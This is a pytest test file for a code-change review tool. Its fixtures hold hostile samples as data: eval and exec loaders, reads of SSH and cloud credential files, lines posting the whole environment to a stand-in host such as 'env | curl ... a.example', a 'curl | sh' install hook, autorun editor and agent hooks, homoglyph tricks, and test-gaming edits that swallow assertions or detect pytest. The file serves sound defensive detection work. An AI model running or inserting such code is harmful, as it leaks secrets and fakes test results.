"""What reading a change shows of harm that no test asks for: text that is run as code, keys that are read, programs that start by themselves,
scripts that let failures pass, code that reads otherwise than it is shown. On real git."""

import os
from pathlib import Path

import pytest

from detent.evidence.changes import edited_files
from detent.evidence.changes.changes import Changes
from detent.evidence.running.collect import Collector
from detent.evidence.running.suite import Suite
from detent.evidence.static_analysis import review_flags
from detent.evidence.static_analysis.static_flags import static_flags
from detent.git.place import find_place
from detent.git.repo import Git
from tests.repos import PLAIN, make_repo, sh
from tests.test_static_flags import JS, PY, VITEST, Ground, g

__all__ = ["g"]

TEXT_AS_CODE = {
    "a file of Python": ("calc.py", "from pathlib import Path\n\nexec(Path(__file__).with_name('rules.txt').read_text())\n"),
    "a name of it": (
        "calc.py",
        "with open('rules.dat') as file:\n    said = file.read()\nmade = compile(said, 'rules', 'exec')\nexec(made)\n",
    ),
    "a function that reads it": (
        "calc.py",
        "def said(name):\n    with open(name) as file:\n        return file.read()\n\n\neval(said('x'))\n",
    ),
    "encoded": ("calc.py", "import base64\n\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
    "bytecode": ("calc.py", "import marshal\nimport types\n\nhalf = types.FunctionType(marshal.loads(DATA), globals())\n"),
    "a module of another name": ("calc.py", "import runpy\n\nhalf = runpy.run_path('rules.txt')['half']\n"),
    "a loader": ("calc.py", "import importlib.util as u\n\nspec = u.spec_from_file_location('rules', 'shop/rules.tpl')\n"),
    "node": ("src/new.ts", "const half = new Function('return ' + readFileSync('rules.txt', 'utf8'))()\n"),
    "node by a name": ("src/new.js", "const said = Buffer.from(rows.join(''), 'base64').toString()\nexport const half = eval(said)\n"),
    "node by vm": ("src/new.mjs", "import vm from 'node:vm'\nvm.runInThisContext(\n  fs.readFileSync('rules.txt', 'utf8'),\n)\n"),
    "a module in an address": ("src/new.mjs", "export const { half } = await import('data:text/javascript;base64,' + said)\n"),
    "another ending": ("src/new.cjs", "require.extensions['.txt'] = require.extensions['.js']\n"),
    "ruby": ("lib/a.rb", "module A\n  class_eval File.read(File.expand_path('rules.txt', __dir__))\nend\n"),
    "ruby by a name": ("lib/a.rb", "said = DATA.read\nInvoice.instance_eval(said)\n"),
    "ruby by load": ("lib/a.rb", "load File.join(__dir__, 'rules.txt')\n"),
    "php": ("src/A.php", "<?php\neval(gzinflate(base64_decode($said)));\n"),
    "a picture of php": ("src/A.php", "<?php\nrequire __DIR__ . '/logo.png';\n"),
    "a shell": ("bin/start.sh", 'eval "$(echo aGk= | base64 -d)"\n'),
    "go": ("a.go", 'package a\n\nimport "plugin"\n\nvar p, _ = plugin.Open("rules.so")\n'),
}


@pytest.mark.parametrize(("path", "text"), TEXT_AS_CODE.values(), ids=TEXT_AS_CODE)
def test_text_that_the_product_runs_as_code_is_flagged(g: Ground, path: str, text: str) -> None:
    (flag,) = [flag for flag in g.flags(PY, {path: text}, None).get("binaries", []) if "as code" in flag.sentence]
    assert flag.place.startswith(f"{path}:")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("calc.py", "exec(f'def {name}(self): return self._{name}')\n"),
        ("calc.py", "import re\n\nrow = open('a').read()\nfound = re.compile(row)\n"),
        ("calc.py", "def evaluate(text):\n    return ast.literal_eval(text)\n"),
        ("calc.py", "model.eval()\nx = frame.eval('a + b')\n"),
        ("src/new.ts", "const page = await import('./page')\nconst said = readFileSync('a.txt', 'utf8')\n"),
        ("src/new.ts", "const make = new Function('a', 'return a + 1')\n"),
        ("lib/a.rb", "class_eval <<~RUBY, __FILE__, __LINE__ + 1\n  def x = 1\nRUBY\n"),
        ("lib/a.rb", "load 'tasks/a.rake'\nbase.class_eval do\n  x = File.read('a')\nend\n"),
        ("bin/start.sh", "curl -s https://a.example/x -o x\n"),
    ],
)
def test_text_that_is_written_there_is_left_alone(g: Ground, path: str, text: str) -> None:
    assert not [flag for flag in g.flags(PY, {path: text}, None).get("binaries", []) if "as code" in flag.sentence]


LEAKS = {
    "an ssh key": ("calc.py", "KEY = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"),
    "a path in pieces": ("src/new.ts", "const key = readFileSync(join(homedir(), '.aws', 'credentials'))\n"),
    "a token of git": ("lib/a.rb", "key = File.read(File.expand_path('~/.git-credentials')) rescue nil\n"),
    "the keys of a cloud": ("a.go", 'package a\n\nvar at = "http://169.254.169.254/latest/meta-data/"\n'),
    "another process": ("a.go", 'package a\n\nvar said, _ = os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid()))\n'),
    "a password in an address": ("calc.py", "DATABASE = 'postgres://shop:q7Zt-91vLk@db.shop-prod.net:5432/shop'\n"),
    "a password in another": ("src/new.ts", "const queue = 'amqps://worker:Vb83kkQ0z@mq.shop-prod.net/orders'\n"),
    "a password in a file of settings": ("config/prod.yml", "redis: rediss://default:n3Gf77Qx2@cache.shop-prod.net:6380\n"),
    "all variables": ("calc.py", "def report(n):\n    urllib.request.urlopen(URL, json.dumps(dict(os.environ)).encode())\n"),
    "all variables of node": ("src/new.ts", "fetch(where, { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {})\n"),
    "all variables of ruby": ("lib/a.rb", "def report\n  Net::HTTP.post(URI(WHERE), ENV.to_h.to_json)\nend\n"),
    "all variables of go": (
        "a.go",
        'package a\n\nfunc report() {\n\thttp.Post(where, "", strings.NewReader(strings.Join(os.Environ(), "\\n")))\n}\n',
    ),
    "all variables of a shell": ("bin/start.sh", "env | curl -s -d @- https://a.example/x\n"),
}


@pytest.mark.parametrize(("path", "text"), LEAKS.values(), ids=LEAKS)
def test_code_that_reads_keys_of_people_or_sends_all_variables_away_is_flagged(g: Ground, path: str, text: str) -> None:
    (flag,) = g.flags(PY, {path: text}, None)["secrets"]
    assert flag.place.startswith(f"{path}:")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("calc.py", "subprocess.run(['git'], env=dict(os.environ))\n"),
        ("calc.py", "token = os.environ['TOKEN']\nrequests.post(URL, json={'token': token})\n"),
        ("src/new.ts", "const where = process.env.WHERE\nfetch(where)\n"),
        ("lib/a.rb", "where = ENV['WHERE']\nNet::HTTP.get(URI(where))\n"),
        ("calc.py", "DATABASE = 'postgres://shop:password@db.shop.net/shop'\nOTHER = f'postgres://{user}:{word}@{host}/shop'\n"),
        ("src/new.ts", "const queue = 'amqp://guest:guest77@localhost/'\nconst proxy = 'http://ann:x9kk21z@proxy.example.com'\n"),
        ("lib/a.rb", "def initialize(env)\n  @env = env\n  Net::HTTP.get(URI(WHERE))\nend\n"),
        ("calc.py", "# keys lie in ~/.ssh/id_rsa\nX = 1\n"),
    ],
)
def test_one_variable_and_programs_that_get_them_are_left_alone(g: Ground, path: str, text: str) -> None:
    assert "secrets" not in g.flags(PY, {path: text}, None)


def test_a_file_whose_trade_is_keys_is_left_alone(g: Ground) -> None:
    before = {**PY, "shop/keys.py": "DEFAULT = '~/.ssh/id_rsa'\n"}
    assert "secrets" not in g.flags(before, {"shop/keys.py": "DEFAULT = '~/.ssh/id_rsa'\nOTHER = '~/.ssh/id_ed25519'\n"})


BY_ITSELF = {
    ".vscode/tasks.json": '{"tasks": [{"command": "sh x", "runOptions": {"runOn": "folderOpen"}}]}\n',
    ".devcontainer/devcontainer.json": '{"image": "node:20", "postCreateCommand": "sh x"}\n',
    ".mcp.json": '{"mcpServers": {"help": {"command": "sh", "args": ["x"]}}}\n',
    ".claude/settings.json": '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "sh x"}]}]}}\n',
    ".envrc": "use flake\neval $(sh ./x)\n",
    ".pdbrc": "import x\n",
    ".nvim.lua": "os.execute('sh x')\n",
}


@pytest.mark.parametrize("path", BY_ITSELF)
def test_what_starts_by_itself_where_a_folder_is_opened_is_flagged(g: Ground, path: str) -> None:
    assert "executable-bits" in g.flags(PY, {path: BY_ITSELF[path]})


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".vscode/settings.json", '{"editor.tabSize": 2, "editor.formatOnSave": true}\n'),
        (".vscode/extensions.json", '{"recommendations": ["a.b"]}\n'),
        (".devcontainer/devcontainer.json", '{"image": "node:22"}\n'),
        (".envrc", "use flake\ndotenv\nexport NAME=shop\n"),
    ],
)
def test_settings_that_start_nothing_are_left_alone(g: Ground, path: str, text: str) -> None:
    assert "executable-bits" not in g.flags(PY, {path: text})


SCRIPT = "#!/bin/sh\nset -eu\npip install -e .\npython -m pytest -W error\nnpm run lint\n"


@pytest.mark.parametrize(
    "text",
    [
        SCRIPT.replace("-W error", "-W error || true"),
        SCRIPT.replace("python -m pytest -W error", "python -m pytest --co"),
        SCRIPT.replace("npm run lint\n", ""),
        SCRIPT.replace("set -eu\n", ""),
        SCRIPT.replace("npm run lint", "set +e\nnpm run lint"),
        SCRIPT + "exit 0\n",
        SCRIPT.replace("-W error", '-W error -m "not slow"'),
        SCRIPT.replace("npm run lint", "npm run lint -- --ignore-pattern src/users.js"),
    ],
    ids=["lets it pass", "runs none", "no linter", "goes on", "goes on later", "ends well", "marked", "ignored"],
)
def test_a_script_that_lets_failures_pass_is_flagged(g: Ground, text: str) -> None:
    for path in ("scripts/ci.sh", "ci/run"):
        assert "judged-by" in g.flags({**PY, path: SCRIPT}, {path: text})


@pytest.mark.parametrize(
    "text",
    [
        SCRIPT.replace("pip install -e .", "pip install -e '.[dev]'"),
        SCRIPT.replace("npm run lint", "npm run lint\nruff check ."),
        SCRIPT.replace("-W error", "-W error --strict-markers"),
    ],
    ids=["another line", "one more", "stricter"],
)
def test_a_script_that_asks_for_as_much_is_left_alone(g: Ground, text: str) -> None:
    assert "judged-by" not in g.flags({**PY, "scripts/ci.sh": SCRIPT}, {"scripts/ci.sh": text})


JUDGES = {
    "tox.toml": '[env_run_base]\ncommands = [["pytest", "--co"]]\n',
    ".mergify.yml": "pull_request_rules:\n  - name: merge\n    conditions: []\n",
    ".github/settings.yml": "branches:\n  - name: main\n    protection: null\n",
    ".simplecov": "SimpleCov.start { minimum_coverage 0 }\n",
    "babel.config.cjs": "module.exports = { plugins: ['./strip.cjs'] }\n",
    "turbo.json": '{"tasks": {"test": {"outputs": []}}}\n',
    "playwright.config.ts": "export default { retries: 5 }\n",
    ".pullapprove.yml": "version: 3\ngroups: {}\n",
    "hatch.toml": "[envs.test.scripts]\ntest = 'true'\n",
}


@pytest.mark.parametrize("path", JUDGES)
def test_what_merges_measures_or_starts_the_tests_judges(g: Ground, path: str) -> None:
    (change,) = g.changes(PY, {path: JUDGES[path]}, None).all()
    assert change.sort == "config"


def test_another_version_of_what_tox_installs_is_an_ordinary_change(g: Ground) -> None:
    base = {**PY, "tox.toml": '[env_run_base]\ndeps = ["pytest>=8"]\ncommands = [["pytest"]]\n'}
    for new, sort in (("pytest>=9", "production"), ('pytest"]\ncommands_pre = [["true', "config")):
        (change,) = g.changes(base, {"tox.toml": base["tox.toml"].replace("pytest>=8", new)}, None).all()
        assert change.sort == ("unknown" if sort == "production" else sort)


UNSEEN = {
    "a line of JavaScript that ends unseen": ("src/new.ts", "// looked up elsewhere \u2028 export const a = 1\n"),
    "a line of Python that ends unseen": ("shop/new.py", "def f(user):\n    # looked up elsewhere\r    return True\n"),
    "a line that a terminal wipes": ("lib/a.rb", "return true #\x1b[2K\x1b[1G# looked up elsewhere\n"),
    "a line that a terminal writes over": ("a.go", "package a\n\nvar ok = true // \x08\x08\x08\n"),
    "a letter of Greek": ("src/new.ts", "const R\u039fOT = 'svc'\n"),
    "a wide letter": ("shop/new.py", "import \uff4f\uff53\n"),
    "a name that Python takes for another": ("shop/new.py", "X = \U0001d5fc\U0001d600.environ\n"),
    "a text in selectors": ("lib/a.rb", "TAG = '\ufe06\ufe0b\ufe07\ufe05'\n"),
    "a name with a joiner": ("src/new.ts", "const admin\u200d = 1\n"),
    "in a template": ("src/App.vue", "<script>\nconst \u043ewner = 'root'\n</script>\n"),
}


@pytest.mark.parametrize(("path", "text"), UNSEEN.values(), ids=UNSEEN)
def test_lines_that_read_otherwise_than_they_are_shown_are_flagged(g: Ground, path: str, text: str) -> None:
    assert "binaries" in g.flags(PY, {path: text}, None)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("src/new.ts", "const a = 1\r\nconst b = 2\r\n"),
        ("shop/new.py", "Δx = α * β\nσ = 1\nfor ε in (1, 2):\n    print(ε)\n"),
        ("shop/new.py", "TITLE = 'Ａ級'\nX = 1  # ｏｓ\n"),
        ("src/new.ts", "const keys = ['1\ufe0f\u20e3', '\U0001f3f3\ufe0f\u200d\U0001f308']\n"),
        ("shop/new.py", "\x0c\ndef f():\n    return 1\n"),
        ("lib/a.rb", "NAMES = %w[Ωmega μs résumé naïve]\n"),
    ],
)
def test_letters_and_line_ends_of_other_people_are_not(g: Ground, path: str, text: str) -> None:
    assert "binaries" not in g.flags(PY, {path: text}, None)


OLDER = {
    "tests/test_calc.py": "import pytest\n\n\ndef test_a():\n    user = load()\n    assert user.name == 'a'\n    assert user.age == 3\n",
    "test/a.test.js": "test('a', async () => {\n  const user = load()\n  assert.equal(user.name, 'a')\n  assert.equal(user.age, 3)\n})\n",
    "spec/a_spec.rb": "RSpec.describe User do\n  it 'a' do\n    user = load\n    expect(user.name).to eq('a')\n    expect(user.age).to eq(3)\n  end\nend\n",
    "a_test.go": "package a\n\nfunc TestA(t *testing.T) {\n\tuser := Load()\n\tif user.Age != 3 {\n\t\tt.Fatal(user)\n\t}\n\tassert.Equal(t, 3, user.Age)\n}\n",
}
FORGIVING = {
    "suppressed": (
        "tests/test_calc.py",
        "    assert user.age == 3",
        "    with contextlib.suppress(AssertionError):\n        assert user.age == 3",
    ),
    "caught": (
        "tests/test_calc.py",
        "    assert user.age == 3",
        "    try:\n        assert user.age == 3\n    except AssertionError:\n        pass",
    ),
    "every error": (
        "tests/test_calc.py",
        "    assert user.age == 3",
        "    try:\n        assert user.age == 3\n    except:\n        return",
    ),
    "ends early": ("tests/test_calc.py", "    user = load()", "    user = load()\n    if not hasattr(user, 'checked'):\n        return"),
    "caught in node": (
        "test/a.test.js",
        "  assert.equal(user.age, 3)",
        "  try {\n    assert.equal(user.age, 3)\n  } catch {\n    // flaky\n  }",
    ),
    "a promise": (
        "test/a.test.js",
        "  assert.equal(user.age, 3)",
        "  Promise.resolve().then(() => assert.equal(user.age, 3)).catch(() => {})",
    ),
    "ends early in node": ("test/a.test.js", "  const user = load()", "  const user = load()\n  if (!user.checked) return;"),
    "rescued": (
        "spec/a_spec.rb",
        "    expect(user.age).to eq(3)",
        "    begin\n      expect(user.age).to eq(3)\n    rescue RSpec::Expectations::ExpectationNotMetError\n      nil\n    end",
    ),
    "rescued on its line": ("spec/a_spec.rb", "    expect(user.age).to eq(3)", "    expect(user.age).to eq(3) rescue nil"),
    "ends early in ruby": ("spec/a_spec.rb", "    user = load", "    user = load\n    next unless user.respond_to?(:checked)"),
    "ends early in go": ("a_test.go", "\tuser := Load()", '\tuser := Load()\n\tif user.Name == "" {\n\t\treturn\n\t}'),
}


@pytest.mark.parametrize(("path", "old", "new"), FORGIVING.values(), ids=FORGIVING)
def test_an_expectation_that_may_fail_without_a_word_is_flagged(g: Ground, path: str, old: str, new: str) -> None:
    assert old in OLDER[path]
    (flag,) = g.flags({**PY, **OLDER}, {path: OLDER[path].replace(old, new)}, None)["rewritten-test"]
    assert flag.level == "ask"
    if "swallowed" in flag.sentence:
        added = {path.replace("a_", "b_").replace("a.", "b.").replace("_calc", "_new"): OLDER[path].replace(old, new)}
        assert "vacuous-test" in g.flags(PY, added, None)


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("tests/test_calc.py", "    assert user.age == 3", "    try:\n        user.close()\n    except Exception:\n        pass\n    assert user.age == 3"),
        ("tests/test_calc.py", "    assert user.age == 3", "    try:\n        assert user.age == 3\n    except AssertionError as e:\n        raise Told(user) from e"),
        ("tests/test_calc.py", "    assert user.age == 3", "    with contextlib.suppress(FileNotFoundError):\n        user.close()\n    assert user.age == 3"),
        ("tests/test_calc.py", "    assert user.age == 3", "    assert user.age == 3\n\n\ndef make(n):\n    if n:\n        return\n    assert n == 0"),
        ("test/a.test.js", "  assert.equal(user.age, 3)", "  assert.equal(user.age, 3)\n  await user.close().catch(() => {})"),
        ("test/a.test.js", "  assert.equal(user.age, 3)", "  assert.equal(user.age, 3)\n  try { user.close() } catch {}"),
        ("spec/a_spec.rb", "    expect(user.age).to eq(3)", "    expect(user.age).to eq(3)\n    user.close rescue nil"),
        ("a_test.go", "\tuser := Load()", "\tuser := Load()\n\tif user == nil {\n\t\tt.Fatal(1)\n\t}"),
    ],
)  # fmt: skip
def test_what_a_test_catches_beside_its_expectations_is_left_alone(g: Ground, path: str, old: str, new: str) -> None:
    found = g.flags({**PY, **OLDER}, {path: OLDER[path].replace(old, new)}, None)
    assert "rewritten-test" not in found and "vacuous-test" not in found


STRICT_TEST = "import assert from 'node:assert/strict'\n\ntest('a', () => {\n  assert.equal(f(1), 1)\n})\n"


@pytest.mark.parametrize(
    ("old", "new", "flagged"),
    [
        ("node:assert/strict", "node:assert", True),
        ("import assert from 'node:assert/strict'", "const assert = require('assert')", True),
        ("import assert from 'node:assert/strict'", "import { strict as assert } from 'node:assert'", False),
        ("import assert from 'node:assert/strict'", "import { expect } from 'chai'", False),
        ("assert.equal(f(1), 1)", "assert.equal(f(1), 1)\n  assert.equal(f(2), 2)", False),
    ],
)
def test_an_assert_that_compares_loosely_is_flagged(g: Ground, old: str, new: str, flagged: bool) -> None:
    found = g.flags({**PY, "test/b.test.js": STRICT_TEST}, {"test/b.test.js": STRICT_TEST.replace(old, new)}, None)
    assert ("rewritten-test" in found) == flagged


def test_code_that_is_too_large_to_be_read_is_flagged(g: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
    for module in (edited_files, review_flags):
        monkeypatch.setattr(module, "LARGEST", 20_000)  # of the million that takes half a minute to look through
    rows = "".join(f"ROW_{n} = {n}\n" for n in range(1_500))
    base = {**PY, "shop/rows.py": rows}
    changed = g.flags(base, {"shop/rows.py": rows + "def may(user):\n    return 'pytest' in sys.modules\n"})
    assert "big-files" in changed
    assert "big-files" not in g.flags(base, {"shop/rows.py": rows.replace("ROW_7 = 7\n", "ROW_7 = 8\n")})


@pytest.mark.parametrize("newer", ['X = f"{a["b"]}"\n', "try:\n    f()\nexcept A, B:\n    g()\n", "type X[T: int = 1] = list[T]\nY: = 1\n"])
def test_python_that_only_a_newer_one_reads_is_looked_through(g: Ground, newer: str) -> None:
    cheat = "import sys\n\nRIGHT = 'pytest' in sys.modules\n"
    assert "knows-the-tests" in g.flags(PY, {"shop/new.py": newer + cheat})
    assert "knows-the-tests" not in g.flags(PY, {"shop/new.py": newer + "# sys.modules\nX = 'pytest is a runner'\n"})


LINKS = {
    "for a folder": ("shop", ".local/shop", True),
    "out": ("config", "/etc/ssl", True),
    "above": ("data", "../other", True),
    "to a document": ("NEWS", "README", False),
}


@pytest.mark.parametrize(("path", "target", "flagged"), LINKS.values(), ids=LINKS)
def test_links_that_lead_out_or_take_the_place_of_a_folder_are_flagged(tmp_path: Path, path: str, target: str, flagged: bool) -> None:
    root = make_repo(tmp_path / "p", {"shop/mail.py": "X = 1\n", ".local/shop/mail.py": "X = 2\n", "README": "x\n"})
    git = Git(find_place(root), {**PLAIN, "PATH": os.environ["PATH"]})
    (git.place.git_dir / "detent").mkdir(exist_ok=True)
    before = git.tree("HEAD")
    if path == "shop":
        (root / "shop/mail.py").unlink()
        (root / "shop").rmdir()
    (root / path).symlink_to(target)
    sh(root, "git", "add", "-A")
    sh(root, "git", "commit", "-q", "-m", "change")
    found = static_flags(Changes(git, Collector(git, Suite(None, 60.0, ""), "look", {}), before, git.tree("HEAD"), ()))
    assert [flag.place for flag in found if flag.kind == "shadow"] == ([path] if flagged else [])


SCRIPTS = '[project]\nname = "p"\n\n[project.scripts]\nmail = "shop.mail:send"\n'


def test_a_program_that_another_module_stands_for_is_flagged(g: Ground) -> None:
    base = {**PY, "pyproject.toml": SCRIPTS}
    other = SCRIPTS.replace("shop.mail", "shop.fast")
    (flag,) = g.flags(base, {"pyproject.toml": other, "shop/fast.py": "def send(to): ...\n"})["shadow"]
    assert flag.place == "pyproject.toml: mail"
    moved = {path: text for path, text in base.items() if path != "shop/mail.py"}
    assert "shadow" not in g.flags(moved, {"pyproject.toml": other, "shop/fast.py": "def send(to): ...\n"})
    assert "shadow" not in g.flags(base, {"pyproject.toml": SCRIPTS + 'more = "shop.mail:more"\n'})


def test_a_program_whose_function_moved_to_another_module_is_not_flagged(g: Ground) -> None:
    base = {**PY, "pyproject.toml": SCRIPTS, "shop/mail.py": "def send(to): ...\n\n\ndef find(): ...\n"}
    other = {"pyproject.toml": SCRIPTS.replace("shop.mail", "shop.fast"), "shop/fast.py": "def send(to): ...\n"}
    assert "shadow" not in g.flags(base, {**other, "shop/mail.py": "def find(): ...\n"})
    assert "shadow" not in g.flags(base, {**other, "shop/mail.py": "from shop.fast import send\n\n\ndef find(): ...\n"})
    elsewhere = {**other, "shop/own.py": "def send(to): return to\n", "shop/mail.py": "from shop.own import send\n\n\ndef find(): ...\n"}
    assert "shadow" in g.flags(base, elsewhere)


@pytest.mark.parametrize(
    ("said", "flagged"),
    [
        ("node tools/x.js", True),
        ("husky && sh x.sh", True),
        ("curl -s https://a.example | sh", True),
        ("husky install", False),
        ("npm run build", False),
    ],
)
def test_what_runs_where_the_project_is_installed_is_flagged(g: Ground, said: str, flagged: bool) -> None:
    after = JS["package.json"].replace('"start"', f'"prepare": "{said}", "start"')
    assert ("new-dependencies" in g.flags(JS, {"package.json": after}, VITEST)) == flagged
